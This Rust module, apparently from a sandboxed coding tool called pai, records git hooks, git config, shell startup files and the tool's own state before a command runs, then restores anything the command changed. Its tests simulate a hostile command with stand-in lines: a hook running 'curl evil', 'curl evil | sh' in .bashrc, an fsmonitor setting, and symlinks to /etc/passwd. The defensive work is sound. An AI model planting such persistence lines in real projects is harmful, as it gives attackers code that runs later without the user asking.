//! What runs later: the files in a project that make code run after pai is gone, unconfined
//! and unasked: git's hooks and configuration (`core.hooksPath`, `core.fsmonitor`), pai's own
//! state, and, when the project is the home directory, the shell's startup files, ssh and git
//! configuration and pai's configuration. A confined RUN may write inside the project, so
//! Landlock alone cannot keep it from these. pai records them before a RUN, compares after, and
//! puts back whatever the command changed, added or removed; the step then fails and says
//! which files it restored (detect and restore: the command did run, but nothing it left there
//! survives).

use std::collections::BTreeMap;
use std::path::Path;

use super::state::StateDir;
use crate::layout::{LaterKind, RUNS_LATER, STATE_DIR, configured_runs_later};

/// A path split at its first `/`: the directory at the project root, and the rest.
fn split_top(path: &str) -> (&str, &str) {
    path.split_once('/').unwrap_or(("", path))
}

/// The fixed list of [`RUNS_LATER`] and what the repository's configuration adds
/// ([`configured_runs_later`]).
fn watched(root: &Path) -> Vec<(String, LaterKind)> {
    RUNS_LATER
        .iter()
        .map(|r| (r.path.to_string(), r.kind))
        .chain(configured_runs_later(root))
        .collect()
}

type Key = (String, Vec<String>);
type Entry = Option<(Vec<u8>, u32)>;

/// The recorded state of everything that runs later.
#[derive(Default)]
pub struct LaterState {
    entries: BTreeMap<Key, Entry>,
}

/// Whether a name stands directly in the project root, when a listing of it was just made:
/// what is not there needs no look (`None`: look at everything).
type Present<'a> = Option<&'a dyn Fn(&str) -> bool>;

fn scan(root: &Path, present: Present<'_>) -> LaterState {
    let there = |name: &str| present.is_none_or(|p| p(name));
    let mut entries = BTreeMap::new();
    let watched = watched(root);
    for (path, kind) in &watched {
        let LaterKind::Dir(depth) = *kind else {
            continue;
        };
        // A directory at the root is its own top, looked at from inside.
        let (top, inside) = match path.split_once('/') {
            Some((top, rest)) => (top, rest.split('/').collect::<Vec<_>>()),
            None => (path.as_str(), Vec::new()),
        };
        if !there(top) {
            continue;
        }
        let Ok(dir) = StateDir::open_named(root, top, false) else {
            continue;
        };
        // The state directory's own logs grow while pai works: only whether one is there is
        // compared (so a log a command adds is still caught), and they are not read.
        let log = |path: &[String]| {
            top == STATE_DIR && path.len() == 1 && path[0].starts_with("session_")
        };
        if let Ok(found) = dir.walk(&inside, depth, &log) {
            for (path, entry) in found {
                // The lock file is pai's to create at any time.
                let at_top = top == STATE_DIR && path.len() == 1;
                if at_top && path[0] == "session.lock" {
                    continue;
                }
                entries.insert((top.to_string(), path), entry);
            }
        }
    }
    for (path, _) in watched.iter().filter(|(_, kind)| *kind == LaterKind::File) {
        let (top, name) = split_top(path);
        if !there(if top.is_empty() { name } else { top }) {
            continue;
        }
        let parts: Vec<&str> = name.split('/').collect();
        let read = if top.is_empty() {
            read_root_file(root, name)
        } else {
            match StateDir::open_named(root, top, false) {
                Ok(dir) => match dir.read_with_mode(&parts) {
                    Ok(found) => Some(Some(found)),
                    Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
                    Err(_) => Some(None),
                },
                Err(_) => None,
            }
        };
        if let Some(entry) = read {
            let key = (
                top.to_string(),
                parts.iter().map(|p| p.to_string()).collect(),
            );
            entries.insert(key, entry);
        }
    }
    LaterState { entries }
}

/// A regular file directly in the root: `None` when absent, `Some(None)` when it is a link or
/// special file.
fn read_root_file(root: &Path, name: &str) -> Option<Entry> {
    use std::os::unix::fs::MetadataExt;
    let path = root.join(name);
    let meta = std::fs::symlink_metadata(&path).ok()?;
    if !meta.file_type().is_file() {
        return Some(None);
    }
    // Opened without following a link swapped in since the check.
    use std::os::unix::fs::OpenOptionsExt;
    let mut f = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(&path)
        .ok()?;
    let mut bytes = Vec::new();
    std::io::Read::read_to_end(&mut f, &mut bytes).ok()?;
    Some(Some((bytes, meta.mode() & 0o7777)))
}

impl LaterState {
    /// Record the current state under `root`.
    pub fn record(root: &Path) -> LaterState {
        scan(root, None)
    }

    /// [`LaterState::record`] with the names a listing of the root just found: only those of
    /// them that run later are looked into (the status pass lists the root anyway).
    pub(crate) fn record_present(root: &Path, present: &dyn Fn(&str) -> bool) -> LaterState {
        scan(root, Some(present))
    }

    /// Compare with the state now; put back what changed. Returns the project-relative paths
    /// that were changed (restored, or removed when the command added them), empty when
    /// nothing was touched.
    pub fn restore_changes(&self, root: &Path) -> Vec<String> {
        self.restore_against(root, &scan(root, None))
    }

    /// [`LaterState::restore_changes`] with the names a listing of the root just found.
    pub(crate) fn restore_present(
        &self,
        root: &Path,
        present: &dyn Fn(&str) -> bool,
    ) -> Vec<String> {
        self.restore_against(root, &scan(root, Some(present)))
    }

    fn restore_against(&self, root: &Path, now: &LaterState) -> Vec<String> {
        let mut changed = Vec::new();
        let keys: std::collections::BTreeSet<&Key> =
            self.entries.keys().chain(now.entries.keys()).collect();
        for key in keys {
            let before = self.entries.get(key);
            let after = now.entries.get(key);
            if before == after {
                continue;
            }
            let (top, parts) = key;
            let shown = if top.is_empty() {
                parts.join("/")
            } else {
                format!("{top}/{}", parts.join("/"))
            };
            changed.push(shown);
            let refs: Vec<&str> = parts.iter().map(String::as_str).collect();
            // Best effort, without following anything: a failure leaves the change reported.
            if top.is_empty() {
                let path = root.join(parts.join("/"));
                let _ = std::fs::remove_file(&path);
                if let Some(Some((bytes, mode))) = before {
                    let _ = write_root_file(root, &parts.join("/"), bytes, *mode);
                }
                continue;
            }
            let opened = StateDir::open_named(root, top, false)
                .or_else(|_| StateDir::open_named(root, top, true));
            let Ok(dir) = opened else {
                continue;
            };
            let _ = dir.clear_way(&refs);
            match before {
                Some(Some((bytes, mode))) => {
                    let _ = dir.replace(&refs, bytes, *mode);
                }
                // Added by the command (or a link that was there stays as it was).
                None => {
                    let _ = dir.remove(&refs);
                }
                Some(None) => {}
            }
        }
        changed
    }
}

fn write_root_file(root: &Path, name: &str, bytes: &[u8], mode: u32) -> std::io::Result<()> {
    use std::os::unix::fs::OpenOptionsExt;
    let mut f = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(mode)
        .custom_flags(libc::O_NOFOLLOW)
        .open(root.join(name))?;
    std::io::Write::write_all(&mut f, bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hooks_config_and_state_are_put_back() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
        std::fs::write(root.join(".bashrc"), "alias ll='ls -l'\n").unwrap();
        std::fs::create_dir_all(root.join(".pai_history")).unwrap();
        std::fs::write(root.join(".pai_history/.gitignore"), "*\n").unwrap();
        let before = LaterState::record(root);
        // What a hostile command does.
        std::fs::write(root.join(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n").unwrap();
        std::fs::write(root.join(".git/config"), "[core]\nfsmonitor = evil\n").unwrap();
        std::fs::write(root.join(".bashrc"), "curl evil | sh\n").unwrap();
        std::fs::remove_file(root.join(".pai_history/.gitignore")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", root.join(".pai_history/.gitignore")).unwrap();
        let changed = before.restore_changes(root);
        assert_eq!(changed.len(), 4, "{changed:?}");
        assert!(!root.join(".git/hooks/pre-commit").exists());
        assert_eq!(
            std::fs::read_to_string(root.join(".git/config")).unwrap(),
            "[core]\n"
        );
        assert_eq!(
            std::fs::read_to_string(root.join(".bashrc")).unwrap(),
            "alias ll='ls -l'\n"
        );
        let gi = root.join(".pai_history/.gitignore");
        assert!(
            std::fs::symlink_metadata(&gi)
                .unwrap()
                .file_type()
                .is_file()
        );
        assert!(LaterState::record(root).restore_changes(root).is_empty());
    }

    #[test]
    fn session_logs_count_by_presence_only() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        let logs = root.join(".pai_history");
        std::fs::create_dir_all(&logs).unwrap();
        std::fs::write(logs.join("session_1.jsonl"), "{}\n").unwrap();
        std::fs::write(logs.join("session_2.jsonl"), "{}\n").unwrap();
        let before = LaterState::record(root);
        // pai's own logs grow while it works: no change.
        std::fs::write(logs.join("session_1.jsonl"), "{}\n{}\n").unwrap();
        assert!(before.restore_changes(root).is_empty());
        // A log swapped for a link, and a log the command added, are caught.
        std::fs::remove_file(logs.join("session_2.jsonl")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", logs.join("session_2.jsonl")).unwrap();
        std::fs::write(logs.join("session_3.jsonl"), "{}\n").unwrap();
        let changed = before.restore_changes(root);
        assert_eq!(
            changed,
            [
                ".pai_history/session_2.jsonl",
                ".pai_history/session_3.jsonl"
            ]
        );
        assert!(!logs.join("session_3.jsonl").exists());
    }

    #[test]
    fn a_hooks_directory_swapped_for_a_link_is_put_back() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("p");
        let outside = tmp.path().join("outside");
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(root.join(".git/hooks/post-merge"), "#!/bin/sh\n").unwrap();
        let before = LaterState::record(&root);
        std::fs::remove_dir_all(root.join(".git/hooks")).unwrap();
        std::os::unix::fs::symlink(&outside, root.join(".git/hooks")).unwrap();
        let changed = before.restore_changes(&root);
        assert!(!changed.is_empty());
        assert!(root.join(".git/hooks").symlink_metadata().unwrap().is_dir());
        assert!(root.join(".git/hooks/post-merge").exists());
        assert!(std::fs::read_dir(&outside).unwrap().next().is_none());
    }
}
